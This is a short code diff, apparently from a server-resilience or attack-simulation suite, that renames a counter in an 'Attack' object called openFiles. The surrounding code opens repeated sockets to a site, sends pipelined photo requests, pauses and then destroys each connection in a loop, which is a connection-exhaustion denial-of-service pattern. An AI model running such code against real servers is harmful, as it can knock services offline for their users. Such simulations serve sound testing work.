@@ -59,12 +59,12 @@ export const openFiles: Attack = {
   mostMemory: 300,
   async run(site) {
     let isOver = false;
-    let asked = 0;
+    let requestCount = 0;
     const leave = async () => {
       while (!isOver) {
         const socket = open(site, network(0), requestFor(`/photos/${photograph}`).repeat(17));
         socket.pause();
-        asked += 17;
+        requestCount += 17;
         await wait(1_000);
         socket.destroy();
       }
@@ -73,7 +73,7 @@ export const openFiles: Attack = {
     await wait(10_000);
     isOver = true;
     await Promise.all(all);
-    return `${asked} photographs asked for`;
+    return `${requestCount} photographs asked for`;
   },
 };
 
